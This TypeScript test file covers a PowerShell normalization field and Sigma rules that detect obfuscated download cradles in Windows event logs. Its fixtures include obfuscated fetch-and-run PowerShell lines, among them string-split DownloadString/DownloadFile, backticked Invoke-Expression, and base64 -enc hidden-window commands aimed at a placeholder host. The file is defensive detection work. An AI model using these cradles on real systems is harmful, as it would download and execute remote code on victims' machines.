import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import {
  buildLogEvent,
  buildWinEvent,
  SECURITY,
  sysmonProcess,
} from '../../../test/builders/winevent.js';
import { repoRoot } from '../../../test/support/fixtures.js';
import { engineFor } from '../../../test/support/sigma.js';
import { EventDocument } from './document.js';
import {
  MAX_POWERSHELL_NORMALIZED_CHARS,
  POWERSHELL_NORMALIZED_FIELD,
  powerShellNormalized,
} from './powershell-field.js';

const PS_OP = 'Microsoft-Windows-PowerShell/Operational';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const field = (data: Record<string, unknown>) =>
  new EventDocument(data).find(POWERSHELL_NORMALIZED_FIELD);
const encode = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('PowerShellNormalized derived field', () => {
  test('4104 ScriptBlockText is normalised (string splits, backticks)', () => {
    const v = field(
      buildWinEvent({
        channel: PS_OP,
        eventId: 4104,
        data: { ScriptBlockText: "$w.('Down'+'loadString')('x'); I`nvoke-Ex`pression $a" },
      }),
    );
    assert.deepEqual(v, ["$w.('DownloadString')('x'); Invoke-Expression $a"]);
  });

  test('4103 reads Payload and ContextInfo (Host Application)', () => {
    const v = field(
      buildWinEvent({
        channel: PS_OP,
        eventId: 4103,
        data: {
          Payload: "CommandInvocation(Invoke-Expression): ('i'+'ex')",
          ContextInfo: 'Host Application = powershell -enc ' + encode('DownloadFile'),
        },
      }),
    );
    assert.ok(v?.[0]?.includes("'iex'"), `payload normalised: ${v?.[0]}`);
    assert.ok(v?.[0]?.includes('DownloadFile'), `encoded host application decoded: ${v?.[0]}`);
  });

  test('Windows PowerShell 800 reads the unnamed Data strings', () => {
    const event = buildWinEvent({ channel: 'Windows PowerShell', eventId: 800, data: {} });
    (event.Event as { EventData: unknown }).EventData = {
      Data: ['x', "HostApplication=powershell -c ('Down'+'loadFile')"],
    };
    assert.ok(field(event)?.[0]?.includes('DownloadFile'), 'classic Data normalised');
  });

  test('process creation of powershell/pwsh: CommandLine with -EncodedCommand decoded', () => {
    const cmd = `powershell -w hidden -enc ${encode("(New-Object Net.WebClient).('Down'+'loadString')('http://192.0.2.10/a')")}`;
    const v = new EventDocument(sysmonProcess({ Image: POWERSHELL, CommandLine: cmd }).data).find(
      POWERSHELL_NORMALIZED_FIELD,
    );
    assert.ok(v?.[0]?.includes("'DownloadString'"), `decoded and normalised: ${v?.[0]}`);
    const sec = buildWinEvent({
      channel: SECURITY,
      eventId: 4688,
      data: {
        NewProcessName: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
        CommandLine: "pwsh -c ('a'+'b')",
      },
    });
    assert.ok(field(sec)?.[0]?.includes("'ab'"), 'Security 4688 of pwsh.exe');
  });

  test('is absent for other images and events, and an EventData field cannot spoof it', () => {
    assert.equal(
      new EventDocument(sysmonProcess({ CommandLine: "cmd /c ('a'+'b')" }).data).find(
        POWERSHELL_NORMALIZED_FIELD,
      ),
      undefined,
    );
    const spoof = buildWinEvent({
      channel: 'Microsoft-Windows-Sysmon/Operational',
      eventId: 3,
      data: { PowerShellNormalized: 'DownloadString' },
    });
    assert.equal(field(spoof), undefined);
    assert.equal(
      field(buildWinEvent({ channel: PS_OP, eventId: 4104, data: { ScriptBlockText: '' } })),
      undefined,
    );
  });

  test('source text up to the limit is kept whole; beyond it, input and value are cut', () => {
    const at = 'a'.repeat(MAX_POWERSHELL_NORMALIZED_CHARS - 1) + 'Z';
    const find = (text: string) => (f: string) => (f === 'ScriptBlockText' ? [text] : undefined);
    assert.equal(
      powerShellNormalized('microsoft-windows-powershell/operational', 4104, find(at))?.[0],
      at,
    );
    const over = powerShellNormalized(
      'microsoft-windows-powershell/operational',
      4104,
      find(at + 'TAIL'),
    )?.[0];
    assert.equal(over?.length, MAX_POWERSHELL_NORMALIZED_CHARS, 'cut at the limit');
    assert.ok(!over?.includes('TAIL'), 'text past the limit is not normalised');
  });

  test('is computed once per event (cached in the document)', () => {
    let reads = 0;
    const doc = new EventDocument(
      buildWinEvent({ channel: PS_OP, eventId: 4104, data: { ScriptBlockText: "('a'+'b')" } }),
    );
    const find = doc.find.bind(doc);
    doc.find = (f: string) => {
      if (f === 'ScriptBlockText') reads++;
      return find(f);
    };
    doc.find(POWERSHELL_NORMALIZED_FIELD);
    doc.find(POWERSHELL_NORMALIZED_FIELD);
    assert.equal(reads, 1);
  });
});

describe('rules on PowerShellNormalized through the engine (literal prefilter included)', () => {
  const rules = [
    'powershell-obfuscated-cradle-script-block.yml',
    'powershell-obfuscated-cradle-command-line.yml',
  ].map((name) => ({
    path: name,
    text: readFileSync(join(repoRoot(), 'rules', 'sigma', name), 'utf8'),
  }));
  const engine = engineFor(rules);

  test('an obfuscated 4104 cradle fires, though its literal is absent from the raw event', () => {
    const event = buildLogEvent({
      channel: PS_OP,
      eventId: 4104,
      data: { ScriptBlockText: "$c.('Down'+'loadFile')('http://192.0.2.10/a.dll', 'a.dll')" },
    });
    assert.deepEqual(
      engine.match(event).map((d) => d.rule.title),
      ['Obfuscated PowerShell Download Cradle in a Script Block (emoguard)'],
    );
  });

  test('an -enc command line fires; the plain cradle and non-PowerShell images do not', () => {
    const enc = sysmonProcess({
      Image: POWERSHELL,
      CommandLine: `powershell -enc ${encode('iwr http://192.0.2.10/a; Invoke-WebRequest x')}`,
    });
    assert.equal(engine.match(enc).length, 1);
    const plain = sysmonProcess({
      Image: POWERSHELL,
      CommandLine: 'powershell Invoke-WebRequest http://192.0.2.10/a',
    });
    assert.equal(engine.match(plain).length, 0);
    const cmd = sysmonProcess({ CommandLine: `cmd /c ('Down'+'loadFile')` });
    assert.equal(engine.match(cmd).length, 0);
  });
});
